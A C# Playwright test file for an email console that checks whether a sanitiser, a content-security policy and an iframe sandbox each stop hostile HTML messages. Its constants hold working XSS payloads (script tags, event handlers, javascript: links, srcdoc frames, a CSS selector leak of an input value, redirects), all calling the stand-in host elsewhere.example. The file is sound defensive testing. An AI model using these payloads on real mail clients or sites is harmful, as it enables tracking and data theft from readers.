using System;
using System.Collections.Generic;
using System.Linq;
using System.Text.Json;
using System.Threading.Tasks;
using Ehlo.Console.Tests.Support;
using Microsoft.Playwright;
using Xunit;

namespace Ehlo.Console.Tests;

/// <summary>
/// Messages that try to act on who reads them. Each trick has an address at a server of somebody else's, so that what worked is known. The
/// walls are taken down one by one between the server and the browser: each alone must hold what it is for, and without any of them the
/// tricks must work, or these tests would prove nothing.
/// </summary>
public sealed class HostileHtmlTests(Chromium chromium, HostileHtmlTests.Served served) : IClassFixture<HostileHtmlTests.Served>
{
    private const string Tricks = """
        <html><head><link rel="stylesheet" href="https://elsewhere.example/link.css"><base href="https://elsewhere.example/base/">
        <style>@import 'https://elsewhere.example/import.css'; body { background: url(
            https://elsewhere.example/css.png) } input[value^="s"] { background: url(
            https://elsewhere.example/exfiltrated) }</style></head>
        <body onload="go('onload')"><script>function go(name) { new Image().src = 'https://elsewhere.example/' + name } go('script')</script>
        <img src="https://elsewhere.example/image.png"><img src="data:," onerror="go('onerror')">
        <svg onload="go('svg')"><script>go('svg-script')</script></svg>
        <iframe src="https://elsewhere.example/frame"></iframe>
        <iframe srcdoc="<script>new Image().src = 'https://elsewhere.example/srcdoc'</script>"></iframe>
        <object data="https://elsewhere.example/object"></object>
        <embed src="https://elsewhere.example/embed">
        <video src="https://elsewhere.example/video" autoplay></video>
        <details open ontoggle="go('ontoggle')">x</details><input value="secret" autofocus onfocus="go('onfocus')">
        <form action="https://elsewhere.example/form" target="_self"><button id="submit">Send</button></form>
        <a id="run" href="javascript:go('javascript')">Run</a>
        </body></html>
        """;

    private const string Refresh = """<meta http-equiv="refresh" content="0;url=https://elsewhere.example/refresh"><p>x</p>""";

    private const string Leave = "<script>top.location = 'https://elsewhere.example/top'</script>";

    // What only loads, and tells who reads; the policy keeps it out, not the sandbox.
    private static readonly string[] Loading =
        ["/css.png", "/embed", "/exfiltrated", "/frame", "/image.png", "/import.css", "/link.css", "/object", "/video"];

    private readonly ServedProgram _program = served.Program;

    /// <summary>What stands between a message and its reader.</summary>
    [Flags]
    private enum Walls
    {
        None = 0,
        Cleaned = 1,
        Policy = 2,
        Sandbox = 4,
        All = Cleaned | Policy | Sandbox,
    }

    [Theory]
    [InlineData(Tricks)]
    [InlineData(Refresh)]
    [InlineData(Leave)]
    public async Task On_the_page_nothing_of_a_hostile_message_works(string html)
    {
        string id = await SendAsync(html);
        await using IBrowserContext context = await chromium.Browser.NewContextAsync();
        Elsewhere elsewhere = await Elsewhere.OpenAsync(context);
        IPage page = await context.NewPageAsync();
        page.Dialog += (_, dialog) => throw new InvalidOperationException($"A dialog: {dialog.Message}");
        await page.GotoAsync($"{_program.Http}messages/{id}?view=html");
        await ClickAsync(page.FrameLocator(".frame iframe"));
        await SettleAsync(context, page);
        Assert.Equal(["/settled"], elsewhere.Asked);
        Assert.StartsWith($"{_program.Http}messages/{id}", page.Url, StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_policy_alone_holds_everything() => Assert.Empty(await TryAsync(Walls.Policy));

    [Fact]
    public async Task The_sandbox_alone_holds_what_acts() => Assert.Empty((await TryAsync(Walls.Sandbox)).Except(Loading));

    [Fact]
    public async Task The_cleaning_alone_holds_everything() => Assert.Empty(await TryAsync(Walls.Cleaned));

    [Theory]
    [InlineData(Tricks, "/script", "/onload", "/onerror", "/svg", "/frame", "/srcdoc", "/object", "/css.png", "/import.css", "/javascript", "/form")]
    [InlineData(Refresh, "/refresh")]
    [InlineData(Leave, "/top")]
    public async Task Without_walls_the_tricks_work(string html, params string[] paths)
    {
        await using IBrowserContext context = await chromium.Browser.NewContextAsync();
        Elsewhere elsewhere = await Elsewhere.OpenAsync(context);
        IPage page = await ShowAsync(context, html, Walls.None);
        foreach (string path in paths.Except(["/form", "/javascript"]))
        {
            await elsewhere.WaitForAsync(path);
        }
        if (paths.Contains("/form"))
        {
            // Which leads the frame away, so it is the last.
            await ClickAsync(page.FrameLocator("iframe"));
        }
        foreach (string path in paths)
        {
            await elsewhere.WaitForAsync(path);
        }
    }

    /// <summary>Shows each message in a frame of a page of ours, behind these walls only, and says what worked.</summary>
    private async Task<IReadOnlyList<string>> TryAsync(Walls walls)
    {
        List<string> asked = [];
        foreach (string html in new[] { Tricks, Refresh, Leave })
        {
            await using IBrowserContext context = await chromium.Browser.NewContextAsync();
            Elsewhere elsewhere = await Elsewhere.OpenAsync(context);
            IPage page = await ShowAsync(context, html, walls);
            await ClickAsync(page.FrameLocator("iframe"));
            await SettleAsync(context, page);
            asked.AddRange(elsewhere.Asked.Except(["/settled"]));
        }
        return asked;
    }

    private async Task<IPage> ShowAsync(IBrowserContext context, string html, Walls walls)
    {
        string id = await SendAsync(html);
        IPage page = await context.NewPageAsync();
        await page.RouteAsync("**/host", route => route.FulfillAsync(new() { ContentType = "text/html", Body = Host(id, walls) }));
        await page.RouteAsync($"**/{id}/html", route => AnswerAsync(route, html, walls));
        await page.GotoAsync($"{_program.Http}host", new() { WaitUntil = WaitUntilState.Commit });
        return page;
    }

    private static string Host(string id, Walls walls) =>
        $"<title>host</title><iframe src='/api/v1/messages/{id}/html' {(walls.HasFlag(Walls.Sandbox) ? "sandbox='allow-popups'" : "")}></iframe>";

    private static async Task AnswerAsync(IRoute route, string html, Walls walls)
    {
        IAPIResponse answer = await route.FetchAsync();
        Dictionary<string, string> headers = new(answer.Headers);
        if (!walls.HasFlag(Walls.Policy))
        {
            headers.Remove("content-security-policy");
        }
        string body = walls.HasFlag(Walls.Cleaned) ? await answer.TextAsync() : html;
        await route.FulfillAsync(new() { Status = answer.Status, Headers = headers, Body = body });
    }

    // What is left of the tricks to click on.
    private static async Task ClickAsync(IFrameLocator frame)
    {
        await frame.Locator("body").WaitForAsync(new() { State = WaitForSelectorState.Attached });
        foreach (string target in new[] { "#run", "#submit" })
        {
            if (await frame.Locator(target).CountAsync() > 0)
            {
                await frame.Locator(target).DispatchEventAsync("click");
            }
        }
    }

    // Two frames are drawn, and then the browser is asked to go elsewhere in another tab: what began before has come to its end or there.
    private static async Task SettleAsync(IBrowserContext context, IPage page)
    {
        await page.EvaluateAsync("new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))");
        IPage last = await context.NewPageAsync();
        await last.GotoAsync($"{Elsewhere.Url}/settled");
    }

    private async Task<string> SendAsync(string html)
    {
        await Post.SendRawAsync(_program, $"Subject: Hostile\nMIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n{html}\n");
        using JsonDocument list = JsonDocument.Parse(await _program.GetAsync("api/v1/messages?limit=1"));
        return list.RootElement.GetProperty("messages")[0].GetProperty("id").GetString()!;
    }

    /// <summary>One program for all, since what a message did is seen in its own browser.</summary>
    public sealed class Served : IAsyncLifetime
    {
        public ServedProgram Program { get; private set; } = null!;

        public async ValueTask InitializeAsync() => Program = await ServedProgram.StartAsync();

        public ValueTask DisposeAsync() => Program.DisposeAsync();
    }
}
